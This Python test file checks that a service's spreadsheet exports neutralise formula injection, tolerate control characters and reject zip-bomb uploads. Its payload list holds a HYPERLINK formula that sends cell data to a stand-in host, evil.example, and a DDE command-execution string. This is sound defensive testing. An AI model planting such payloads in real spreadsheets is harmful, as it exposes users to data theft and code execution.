"""Every XLSX the skp service writes holds values, never formulas, and never
fails on a character XML cannot carry (issue 15); uploaded formula-like text
comes back out as text."""

from __future__ import annotations

import io

import pytest
from kinerja_devstack.hostile import xlsx_bomb
from kinerja_devstack.samples import pppk_skp
from kinerja_platform.spreadsheet import SpreadsheetTooLarge, XlsxLimits, formula_cells
from kinerja_skp.adapters.xlsx_batch import read_batch, write_batch
from kinerja_skp.adapters.xlsx_reader import read_skp
from kinerja_skp.adapters.xlsx_writer import write_skp
from kinerja_skp.domain.model import SkpContent
from openpyxl import load_workbook

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)",
            "\t=1+1"]


def _hostile(text: str, control: str = "") -> SkpContent:
    c = SkpContent.model_validate(pppk_skp())
    # legacy rows may hold what the edge refuses today: the writers must not trust the content
    c.pegawai.nama = text + control
    c.pegawai.jabatan = text
    c.penilai.nama = text
    c.hasil_kerja[0].uraian = text
    c.hasil_kerja[0].iki[0].indikator = text + control
    c.tempat = text
    c.lampiran.konsekuensi = [text]
    return c


@pytest.mark.parametrize("text", FORMULAS)
def test_exports_write_formula_like_text_as_text(text):
    for data in (write_skp(_hostile(text)), write_batch([_hostile(text)])):
        wb = load_workbook(io.BytesIO(data))
        assert formula_cells(wb) == []
        values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
        assert text in values  # kept as written, only made inert


def test_exports_survive_control_characters():
    c = _hostile("Pranata Komputer", "\x00\x01\x1b")
    for data in (write_skp(c), write_batch([c])):
        wb = load_workbook(io.BytesIO(data))
        values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
        assert "Pranata Komputer\ufffd\ufffd\ufffd" in values


@pytest.mark.parametrize("text", FORMULAS[:2])
def test_an_uploaded_formula_like_text_is_exported_as_text(text):
    data = write_skp(_hostile(text))
    again = SkpContent.model_validate(read_skp(data))
    assert again.pegawai.nama == text
    assert formula_cells(load_workbook(io.BytesIO(write_skp(again)))) == []


def test_the_readers_refuse_a_zip_bomb_quickly():
    bomb = xlsx_bomb()
    for read in (read_skp, read_batch):
        with pytest.raises(SpreadsheetTooLarge, match="zip bomb"):
            read(bomb)
    with pytest.raises(SpreadsheetTooLarge, match="inflates to more than"):
        read_skp(bomb, XlsxLimits(max_uncompressed_bytes=1024 * 1024, max_ratio=1e9))
    with pytest.raises(SpreadsheetTooLarge, match="more than 100 rows"):
        read_skp(xlsx_bomb(cells=10_000, columns=10), XlsxLimits(max_rows=100, max_ratio=1e9))
    with pytest.raises(SpreadsheetTooLarge, match="parts"):
        read_skp(bomb, XlsxLimits(max_members=2))


def test_only_the_first_columns_are_read():
    rows = read_batch(write_batch([SkpContent.model_validate(pppk_skp())]), XlsxLimits(max_columns=64))
    assert len(rows) == 1
